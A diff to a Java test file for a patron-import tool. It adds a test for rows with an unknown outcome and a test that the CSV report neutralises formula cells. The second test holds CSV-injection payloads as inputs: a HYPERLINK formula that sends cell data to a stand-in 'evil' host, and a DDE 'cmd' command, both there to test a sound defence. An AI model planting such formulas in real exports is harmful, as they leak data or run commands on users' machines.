@@ -68,7 +68,7 @@ class PatronImportExampleTest {
     assertThat(lines).hasSize(12);
     assertThat(lines.get(0)).isEqualTo(String.join(",", PatronImport.REPORT_HEADER));
     assertThat(lines.get(2)).isEqualTo("2,UPDATE,2020000000037,MEDITATIONS@example.com,Marcus,Aurelius,phone address1,");
-    assertThat(lines.get(7)).startsWith("7,REJECTED,,Zoe.Angstrom@example.org,Mei,Chen,,\"same email as row 3");
+    assertThat(lines.get(7)).startsWith("7,REJECTED,,Zoe.Angstrom@example.org,Mei,Chen,,same email as row 3");
   }
 
   @Test
@@ -92,5 +92,39 @@ class PatronImportExampleTest {
     assertThat(lines).hasSize(12);
     assertThat(lines.get(3)).matches("3,CREATED,\\d{13},zoe.angstrom@example.org,Zoë,Ångström,first_name .*,");
     assertThat(outBytes.toString(StandardCharsets.UTF_8)).contains("Done: 6 created, 1 updated, 1 unchanged, 3 rejected");
+  }
+
+  /** Issue 20, point 4: a row the re-run cannot find by a key is listed apart, never promised away. */
+  @Test
+  void anUnknownRowWithoutKeysIsListedApartAndNoRerunIsPromised(@TempDir Path dir) throws Exception {
+    Path roster = dir.resolve("roster.csv");
+    Files.writeString(roster, "first_name,last_name,email\r\nNo,Key,\r\nAda,Byron,ada@example.org\r\n");
+    ImportReport done;
+    try (Target target = Target.forSandbox()) {
+      target.sandbox().libib().resetNthRequest(4);     // 3 pages are read, then the first create is cut off
+      done = PatronImport.run(target, false, roster, dir.resolve("report.csv"), out, err, false);
+    }
+
+    assertThat(done.rows()).extracting(r -> r.outcome()).containsExactly(Outcome.OUTCOME_UNKNOWN, Outcome.CREATED);
+    assertThat(outBytes.toString(StandardCharsets.UTF_8))
+        .contains("Check Libib for these rows before running the import again").contains("No").contains("Key")
+        .doesNotContain("nothing is created twice");
+  }
+
+  /** The report neutralises cells a spreadsheet would run as formulas (CSV injection, OWASP's way). */
+  @Test
+  void theReportNeutralisesFormulaCells(@TempDir Path dir) throws Exception {
+    Path roster = dir.resolve("roster.csv");
+    Path report = dir.resolve("report.csv");
+    Files.writeString(roster, "first_name,last_name,email\r\n"
+        + "\"=HYPERLINK(\"\"http://evil/?\"\"&B2)\",\"+cmd|' /C calc'!A0\",eve@example.org\r\n"
+        + "-1+1,@SUM(1+1),mal@example.org\r\n");
+    try (Target target = Target.forSandbox()) {
+      PatronImport.run(target, true, roster, report, out, err, false);
+    }
+
+    List<String> lines = Files.readAllLines(report);
+    assertThat(lines.get(1)).contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&B2)\",'+cmd|' /C calc'!A0,");
+    assertThat(lines.get(2)).contains(",'-1+1,'@SUM(1+1),");
   }
 }
